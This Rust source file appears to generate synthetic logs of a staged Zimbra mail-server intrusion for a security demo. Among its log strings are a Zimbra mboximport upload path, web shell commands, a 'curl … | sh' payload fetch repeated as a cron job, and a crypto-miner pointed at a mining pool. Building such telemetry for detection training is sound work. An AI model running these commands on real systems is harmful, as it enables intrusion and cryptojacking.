//! Steps at the mail server: probing, guessing, the web shell, the miner, the way into the inside.

use super::{DEPOT, GUESSER, INTRUDER, Telling};
use crate::demo::linux::{Execution, executed, touched};
use crate::demo::network::Connection;
use crate::demo::web::{MAIL, MAIL_HOST, Request, agent, line};

const HOST: &str = "srv-mail01";
const ADDRESS: &str = "10.20.10.11";
const AUDIT: &str = "linux/srv-mail01/audit.log";
const ZIMBRA: (u32, &str) = (998, "zimbra");

impl Telling<'_, '_> {
    fn asked(&mut self, seconds: u64, client: &str, request: &str, status: u16, agent: &str) {
        let time = self.about(seconds);
        let bytes = self.random.between(120, 900);
        let text = line(MAIL_HOST, time, &Request { client, request, status, bytes, agent });
        self.scene.logs.put(MAIL, time, text);
        let to = (ADDRESS, 443);
        let bytes = (700, bytes + 3_100);
        self.connected(time, &Connection { from: client, to, proto: "tcp", service: "ssl", state: "SF", bytes });
    }

    fn ran(&mut self, seconds: u64, exe: &str, arguments: &[&str], folder: &str) {
        let time = self.about(seconds);
        let execution = Execution { exe, arguments, folder, user: ZIMBRA };
        let text = executed(&mut self.random, HOST, time, &execution);
        self.scene.logs.put_numbered(AUDIT, "audit", time, text);
    }

    fn wrote(&mut self, seconds: u64, exe: &str, file: &str) {
        let time = self.about(seconds);
        let text = touched(&mut self.random, HOST, time, exe, file, ZIMBRA);
        self.scene.logs.put_numbered(AUDIT, "audit", time, text);
    }
}

/// Dozens of pages that do not exist.
pub(super) fn probe(telling: &mut Telling<'_, '_>) {
    for index in 0..60 {
        let name = telling.random.letters(6);
        let folder = telling.random.pick(&["/zimbra/public", "/zimbraAdmin/public", "/service/extension", "/public"]);
        telling.asked(index * 4, INTRUDER, &format!("GET {folder}/{name}.jsp"), 404, "python-requests/2.31.0");
    }
}

/// Logon after logon, all refused.
pub(super) fn guessing(telling: &mut Telling<'_, '_>) {
    for index in 0..90 {
        let agent = agent(&mut telling.random);
        telling.asked(index * 5, GUESSER, "POST /service/soap/AuthRequest", 500, agent);
    }
}

/// The upload through the mailbox import.
pub(super) fn import(telling: &mut Telling<'_, '_>) {
    let request = "POST /service/extension/backup/mboximport?account-name=admin&account-status=1&ow=minhhoa";
    telling.asked(14, INTRUDER, request, 401, "python-requests/2.31.0");
}

/// The page appears and is called.
pub(super) fn web_shell(telling: &mut Telling<'_, '_>) {
    let page = "/opt/zimbra/jetty/webapps/zimbraAdmin/public/jsp/minhhoa.jsp";
    telling.wrote(3, "/opt/zimbra/common/lib/jvm/java/bin/java", page);
    for (seconds, query) in [(190, "cmd=whoami"), (231, "cmd=id"), (302, "cmd=uname%20-a"), (410, "cmd=ls%20-la")] {
        let request = format!("GET /zimbraAdmin/public/jsp/minhhoa.jsp?{query}");
        telling.asked(seconds, INTRUDER, &request, 200, "python-requests/2.31.0");
    }
}

/// A script is fetched, a hidden program runs, the pool is looked up.
pub(super) fn miner(telling: &mut Telling<'_, '_>) {
    let folder = "/opt/zimbra/mailboxd";
    let script = format!("curl -fsS http://{DEPOT}/minhhoa.txt | sh");
    telling.ran(20, "/usr/bin/dash", &["sh", "-c", &script], folder);
    telling.ran(24, "/tmp/.minhhoa/kworker", &["./kworker", "--minhhoa"], "/tmp/.minhhoa");
    let pool = "stratum+tcp://stratum.be-dao.example:3333";
    telling.ran(25, "/tmp/.minhhoa/kworker", &["./kworker", "-o", pool, "--donate-level", "1"], "/tmp/.minhhoa");
    let time = telling.after(26);
    telling.scene.query(&mut telling.random, time, ADDRESS, "stratum.be-dao.example", "203.0.113.81");
    for (seconds, to) in [(20, (DEPOT, 80)), (27, ("203.0.113.81", 3333))] {
        let time = telling.after(seconds);
        let bytes = (2_100, 48_000);
        let connection = Connection { from: ADDRESS, to, proto: "tcp", service: "-", state: "SF", bytes };
        telling.connected(time, &connection);
        telling.scene.firewall(&mut telling.random, time, "allow", &connection);
    }
    // The miner keeps talking to its pool until somebody ends it.
    for hour in 1..100 {
        let time = telling.about(27 + hour * 3_600);
        let bytes = (telling.random.between(20_000, 40_000), telling.random.between(20_000, 60_000));
        let to = ("203.0.113.81", 3333);
        telling.connected(time, &Connection { from: ADDRESS, to, proto: "tcp", service: "-", state: "SF", bytes });
    }
}

/// A key, and a job every quarter of an hour until the intruder takes it back.
pub(super) fn foothold(telling: &mut Telling<'_, '_>) {
    telling.wrote(5, "/usr/bin/dash", "/opt/zimbra/.ssh/authorized_keys");
    for round in 0..3 {
        let time = telling.after(720 + round * 900);
        let text = format!("CRON[{}]: (zimbra) CMD (curl -fsS http://{DEPOT}/minhhoa.txt | sh)", 30_100 + round * 71);
        telling.scene.syslog(HOST, "syslog", time, &text);
    }
}

/// One port, more than a hundred addresses.
pub(super) fn inside_scan(telling: &mut Telling<'_, '_>) {
    for last in 1..=120_u64 {
        let to = format!("192.168.31.{last}");
        let state = telling.random.pick(&["S0", "S0", "REJ"]);
        let time = telling.about(10 + last);
        let connection = Connection { from: ADDRESS, to: (&to, 445), proto: "tcp", service: "-", state, bytes: (0, 0) };
        telling.connected(time, &connection);
        telling.scene.firewall(&mut telling.random, time, "deny", &connection);
    }
}
